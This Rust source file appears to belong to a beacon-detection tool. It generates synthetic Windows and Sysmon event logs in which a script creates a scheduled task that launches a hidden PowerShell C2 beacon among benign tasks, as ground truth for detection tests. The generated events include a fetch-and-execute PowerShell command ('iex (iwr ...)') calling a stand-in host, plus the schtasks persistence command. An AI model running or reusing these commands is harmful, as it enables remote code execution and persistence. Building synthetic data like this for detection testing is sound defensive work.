//! A generated AN1113 scenario: Windows hosts whose events (Sysmon, Security, TaskScheduler,
//! as flat JSON lines) show a scheduled task created by a script host that launches a
//! PowerShell beacon every 5 minutes with jitter, among benign tasks and agents, with one host
//! missing command lines and one seen on the network only by host-level connections.

use super::Rng;
use crate::time::Timestamp;

/// One host-level connection (as a Zeek `conn.log` line would have it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SynthFlow {
    /// Start time.
    pub ts: Timestamp,
    /// Source address.
    pub src: String,
    /// Destination address.
    pub dst: String,
    /// Destination port.
    pub dst_port: u16,
}

/// What the scenario planted, for tests to check against.
#[derive(Debug, Clone, PartialEq)]
pub struct An1113Truth {
    /// The host whose task beacons.
    pub beacon_host: &'static str,
    /// The beaconing task.
    pub task: &'static str,
    /// The script host that ran `schtasks /create`.
    pub creator_image: &'static str,
    /// The beaconing image.
    pub beacon_image: &'static str,
    /// The C2 address and port.
    pub c2: (&'static str, u16),
    /// The C2 name the beacon asks DNS for.
    pub c2_name: &'static str,
    /// The task's trigger interval and the beacon's mean period, seconds.
    pub period_s: f64,
    /// The host whose process events have no command lines (4688 without them, 5156 network).
    pub no_command_lines: &'static str,
    /// The host seen on the network only by host-level connections (no Windows network events).
    pub host_level_only: (&'static str, &'static str),
    /// Every Windows host.
    pub hosts: [&'static str; 3],
}

/// The generated events.
#[derive(Debug, Clone, PartialEq)]
pub struct An1113Scenario {
    /// Windows events, one JSON object per line, in time order.
    pub lines: Vec<String>,
    /// Host-level connections (for the host without Windows network events), in time order.
    pub flows: Vec<SynthFlow>,
    /// What was planted.
    pub truth: An1113Truth,
}

const T0: i64 = 1_709_539_200_000_000; // 2024-03-04T08:00:00Z
const SCHEDULE_SVC: &str = r"C:\Windows\system32\svchost.exe";
const SCHEDULE_CMD: &str = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule";
const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

fn esc(s: &str) -> String {
    let mut o = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o
}

/// `2024-03-04 08:10:00.123` (Sysmon `UtcTime`).
fn utc(ts: i64) -> String {
    let s = Timestamp(ts).to_string();
    // RFC 3339 `…T08:10:00.123456Z` → `… 08:10:00.123`.
    let (date, rest) = s.split_once('T').unwrap_or((&s, ""));
    format!("{date} {}", rest.get(..12).unwrap_or(rest))
}

struct Out {
    events: Vec<(i64, String)>,
    record: u64,
}

impl Out {
    fn push(&mut self, ts: i64, host: &str, channel: &str, id: u32, fields: &[(&str, String)]) {
        self.record += 1;
        let mut l = format!(
            r#"{{"EventID":{id},"Channel":"{channel}","Hostname":"{host}","@timestamp":"{}","RecordNumber":{}"#,
            Timestamp(ts),
            self.record
        );
        for (k, v) in fields {
            l.push_str(&format!(r#","{k}":"{}""#, esc(v)));
        }
        l.push('}');
        self.events.push((ts, l));
    }
}

/// One host's processes and network events, written as Sysmon (full) or Security 4688 / 5156
/// (the host without command lines).
struct Host {
    name: &'static str,
    addr: &'static str,
    sysmon: bool,
    next_pid: u32,
    /// GUIDs of the processes created so far, by PID (PIDs are not reused here).
    guids: Vec<(u32, String)>,
}

impl Host {
    fn pid(&mut self) -> u32 {
        self.next_pid += 4;
        self.next_pid
    }

    /// The GUID of process `pid`: the one it was created with, else one for a process started
    /// before the scenario (services.exe, explorer.exe, the Schedule service).
    fn guid(&self, pid: u32) -> String {
        match self.guids.iter().find(|(p, _)| *p == pid) {
            Some((_, g)) => g.clone(),
            None => format!("{{5c1f0a1e-{:04x}-0000-0000-{:012x}}}", pid & 0xffff, T0 / 1_000_000),
        }
    }

    /// A Sysmon event `id` of process `pid` (`image`): UtcTime, ProcessGuid, ProcessId and Image,
    /// then `rest`.
    fn push_sysmon(&self, o: &mut Out, ts: i64, id: u32, pid: u32, image: &str, rest: Vec<(&str, String)>) {
        let mut fields = vec![
            ("UtcTime", utc(ts)),
            ("ProcessGuid", self.guid(pid)),
            ("ProcessId", pid.to_string()),
            ("Image", image.to_owned()),
        ];
        fields.extend(rest);
        o.push(ts, self.name, "Microsoft-Windows-Sysmon/Operational", id, &fields);
    }

    #[allow(clippy::too_many_arguments)]
    fn process(&mut self, o: &mut Out, ts: i64, image: &str, cmd: &str, parent: (u32, &str, &str), user: &str) -> u32 {
        let pid = self.pid();
        self.guids.push((
            pid,
            format!(
                "{{5c1f0a1e-{:04x}-{:04x}-0000-{:012x}}}",
                pid & 0xffff,
                (ts / 1_000_000) & 0xffff,
                ts
            ),
        ));
        let (ppid, pimg, pcmd) = parent;
        if self.sysmon {
            self.push_sysmon(
                o,
                ts,
                1,
                pid,
                image,
                vec![
                    ("CommandLine", cmd.into()),
                    ("User", user.into()),
                    ("ParentProcessGuid", self.guid(ppid)),
                    ("ParentProcessId", ppid.to_string()),
                    ("ParentImage", pimg.into()),
                    ("ParentCommandLine", pcmd.into()),
                ],
            );
        } else {
            // Process Creation auditing without "Include command line".
            o.push(
                ts,
                self.name,
                "Security",
                4688,
                &[
                    ("NewProcessId", format!("{pid:#x}")),
                    ("NewProcessName", image.into()),
                    ("ProcessId", format!("{ppid:#x}")),
                    ("ParentProcessName", pimg.into()),
                    ("SubjectUserName", user.rsplit('\\').next().unwrap_or(user).into()),
                    ("SubjectDomainName", "CORP".into()),
                ],
            );
        }
        pid
    }

    fn connect(&self, o: &mut Out, ts: i64, pid: u32, image: &str, dst: &str, port: u16) {
        if self.sysmon {
            self.push_sysmon(
                o,
                ts,
                3,
                pid,
                image,
                vec![
                    ("Protocol", "tcp".into()),
                    ("Initiated", "true".into()),
                    ("SourceIp", self.addr.into()),
                    ("SourcePort", (49152 + (ts / 1_000_000 % 16000)).to_string()),
                    ("DestinationIp", dst.into()),
                    ("DestinationPort", port.to_string()),
                ],
            );
        } else {
            let device = image.replacen("C:", r"\device\harddiskvolume2", 1).to_ascii_lowercase();
            o.push(
                ts,
                self.name,
                "Security",
                5156,
                &[
                    ("Direction", "%%14593".into()),
                    ("SourceAddress", self.addr.into()),
                    ("SourcePort", (49152 + (ts / 1_000_000 % 16000)).to_string()),
                    ("DestAddress", dst.into()),
                    ("DestPort", port.to_string()),
                    ("Protocol", "6".into()),
                    ("ProcessId", pid.to_string()),
                    ("Application", device),
                ],
            );
        }
    }
}

/// The task XML of a time trigger repeating every `every` (ISO 8601), running `cmd args`.
fn task_xml(every: &str, cmd: &str, args: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><TimeTrigger><Repetition><Interval>{every}</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition><StartBoundary>2024-03-04T08:10:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers><Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions Context=\"Author\"><Exec><Command>{cmd}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
    )
}

/// One run of a task: TaskScheduler 107 → 129 → 100 → 200, the launched process, 201 → 102.
fn task_run(o: &mut Out, h: &mut Host, ts: i64, task: &str, image: &str, cmd: &str, user: &str) -> u32 {
    let (name, ch) = (h.name, "Microsoft-Windows-TaskScheduler/Operational");
    let inst = format!(
        "{{{:08x}-1111-2222-3333-{:012x}}}",
        ts / 1_000_000 % 0xffff_ffff,
        ts % 0xffff_ffff_ffff
    );
    // One TaskScheduler event `at` µs after the trigger: TaskName, then `rest`.
    let event = |o: &mut Out, at: i64, id: u32, rest: &[(&str, &str)]| {
        let fields: Vec<(&str, String)> = [("TaskName", task)]
            .iter()
            .chain(rest)
            .map(|&(k, v)| (k, v.to_owned()))
            .collect();
        o.push(ts + at, name, ch, id, &fields);
    };
    event(o, 0, 107, &[("InstanceId", &inst)]);
    let pid = h.process(o, ts + 300_000, image, cmd, (1208, SCHEDULE_SVC, SCHEDULE_CMD), user);
    let pid_text = pid.to_string();
    // (µs after the trigger, event ID, the fields after TaskName)
    type Step<'a> = (i64, u32, &'a [(&'a str, &'a str)]);
    let after_launch: [Step<'_>; 5] = [
        (200_000, 129, &[("Path", image), ("ProcessID", &pid_text)]),
        (250_000, 100, &[("InstanceId", &inst), ("UserContext", user)]),
        (
            260_000,
            200,
            &[
                ("ActionName", image),
                ("TaskInstanceId", &inst),
                ("EnginePID", &pid_text),
            ],
        ),
        (
            20_000_000,
            201,
            &[("ActionName", image), ("TaskInstanceId", &inst), ("ResultCode", "0")],
        ),
        (20_100_000, 102, &[("InstanceId", &inst)]),
    ];
    for (at, id, rest) in after_launch {
        event(o, at, id, rest);
    }
    pid
}

/// A benign task every host runs: its first run (µs after T0, plus a random delay up to
/// `jitter_us` when there is one), its period, and the connection each run makes `connect_us`
/// after its trigger. `sensor`: whether, on the host without Windows network events, a
/// host-level flow stands for that connection (the backup's has none).
struct HostTask {
    task: &'static str,
    image: &'static str,
    args: &'static str,
    first_us: i64,
    jitter_us: Option<f64>,
    every_us: i64,
    connect_us: i64,
    dst: (&'static str, u16),
    sensor: bool,
}

const HOST_TASKS: [HostTask; 2] = [
    // An updater task every hour to a destination every host reaches.
    HostTask {
        task: r"\GoogleUpdateTaskMachineUA",
        image: r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe",
        args: "/ua /installsource scheduler",
        first_us: 1_200_000_000,
        jitter_us: Some(60e6),
        every_us: 3_600_000_000,
        connect_us: 2_000_000,
        dst: ("142.250.74.110", 443),
        sensor: true,
    },
    // A backup job every two hours to the internal file server.
    HostTask {
        task: r"\Contoso\Backup",
        image: r"C:\Program Files\Contoso Backup\backup.exe",
        args: "/incremental",
        first_us: 2_400_000_000,
        jitter_us: None,
        every_us: 7_200_000_000,
        connect_us: 5_000_000,
        dst: ("10.0.0.20", 445),
        sensor: false,
    },
];

/// The scenario over `hours` (at least 1), seeded.
///
/// # Example
/// ```
/// use beaconstat::synth::an1113_scenario;
/// let s = an1113_scenario(7, 3.0);
/// assert!(s.lines.iter().any(|l| l.contains("/sc minute /mo 5")));
/// assert_eq!(s.truth.period_s, 300.0);
/// ```
pub fn an1113_scenario(seed: u64, hours: f64) -> An1113Scenario {
    let mut rng = Rng::new(seed);
    let end = T0 + (hours.max(1.0) * 3600.0 * 1e6) as i64;
    let mut o = Out {
        events: Vec::new(),
        record: 1000,
    };
    let truth = An1113Truth {
        beacon_host: "WS01.corp.example",
        task: r"\OneDriveUpdate",
        creator_image: "wscript.exe",
        beacon_image: "powershell.exe",
        c2: ("198.51.100.23", 443),
        c2_name: "cdn-sync.example.net",
        period_s: 300.0,
        no_command_lines: "WS02.corp.example",
        host_level_only: ("WS03.corp.example", "10.0.0.13"),
        hosts: ["WS01.corp.example", "WS02.corp.example", "WS03.corp.example"],
    };
    let mut hosts = [
        Host {
            name: truth.hosts[0],
            addr: "10.0.0.11",
            sysmon: true,
            next_pid: 4000,
            guids: Vec::new(),
        },
        Host {
            name: truth.hosts[1],
            addr: "10.0.0.12",
            sysmon: false,
            next_pid: 6000,
            guids: Vec::new(),
        },
        Host {
            name: truth.hosts[2],
            addr: "10.0.0.13",
            sysmon: true,
            next_pid: 8000,
            guids: Vec::new(),
        },
    ];
    let mut flows = Vec::new();
    let agent = r"C:\Program Files\Contoso Monitor\monagent.exe";
    for h in hosts.iter_mut() {
        // The host-level-only host logs no network events: the sensor's flows stand for them.
        let network = h.name != truth.host_level_only.0;
        let mut reach = |o: &mut Out, h: &Host, ts: i64, pid: u32, image: &str, (dst, port): (&str, u16), sensor| {
            if network {
                h.connect(o, ts, pid, image, dst, port);
            } else if sensor {
                flows.push(SynthFlow {
                    ts: Timestamp(ts),
                    src: h.addr.into(),
                    dst: dst.into(),
                    dst_port: port,
                });
            }
        };
        // A monitoring agent (a service) polling the internal collector every 60 s.
        let started = T0 + 5_000_000;
        let apid = h.process(
            &mut o,
            started,
            agent,
            &format!("\"{agent}\" --service"),
            (
                640,
                r"C:\Windows\System32\services.exe",
                r"C:\Windows\system32\services.exe",
            ),
            r"NT AUTHORITY\SYSTEM",
        );
        let mut t = started + 30_000_000;
        while t < end {
            reach(&mut o, h, t, apid, agent, ("10.0.0.5", 8443), true);
            t += 60_000_000 + (rng.uniform() * 2e6) as i64;
        }
        for task in &HOST_TASKS {
            let mut t = T0 + task.first_us + task.jitter_us.map_or(0, |j| (rng.uniform() * j) as i64);
            let cmd = format!("\"{}\" {}", task.image, task.args);
            while t < end {
                let pid = task_run(&mut o, h, t, task.task, task.image, &cmd, r"NT AUTHORITY\SYSTEM");
                reach(&mut o, h, t + task.connect_us, pid, task.image, task.dst, task.sensor);
                t += task.every_us;
            }
        }
    }
    // WS01: a script host creates the beacon task, which runs every 5 minutes; each run's
    // PowerShell resolves the C2 name and checks in after a random delay (the jitter).
    let h = &mut hosts[0];
    let created = T0 + 600_000_000;
    let explorer = r"C:\Windows\explorer.exe";
    let user = r"CORP\bob";
    let wscript = h.process(
        &mut o,
        created - 4_000_000,
        r"C:\Windows\System32\wscript.exe",
        r#""C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Roaming\update.vbs""#,
        (3300, explorer, explorer),
        user,
    );
    let args = "-w hidden -nop -c \"iex (iwr https://cdn-sync.example.net/a)\"";
    let schtasks = format!("schtasks /create /sc minute /mo 5 /tn OneDriveUpdate /tr \"powershell.exe {args}\" /f");
    h.process(
        &mut o,
        created - 300_000,
        r"C:\Windows\System32\schtasks.exe",
        &schtasks,
        (
            wscript,
            r"C:\Windows\System32\wscript.exe",
            r#""C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Roaming\update.vbs""#,
        ),
        user,
    );
    o.push(
        created,
        h.name,
        "Security",
        4698,
        &[
            ("SubjectUserName", "bob".into()),
            ("SubjectDomainName", "CORP".into()),
            ("SubjectLogonId", "0x5f3e2".into()),
            ("TaskName", truth.task.into()),
            ("TaskContent", task_xml("PT5M", "powershell.exe", args)),
        ],
    );
    let mut t = created + 300_000_000;
    while t < end {
        let pid = task_run(&mut o, h, t, truth.task, PS, &format!("powershell.exe {args}"), user);
        let delay = (rng.uniform() * 60e6) as i64;
        h.push_sysmon(
            &mut o,
            t + delay,
            22,
            pid,
            PS,
            vec![
                ("QueryName", truth.c2_name.into()),
                ("QueryStatus", "0".into()),
                ("QueryResults", format!("::ffff:{};", truth.c2.0)),
            ],
        );
        h.connect(&mut o, t + delay + 80_000, pid, PS, truth.c2.0, truth.c2.1);
        t += 300_000_000;
    }
    o.events.sort_by_key(|(ts, _)| *ts);
    An1113Scenario {
        lines: o.events.into_iter().map(|(_, l)| l).collect(),
        flows,
        truth,
    }
}
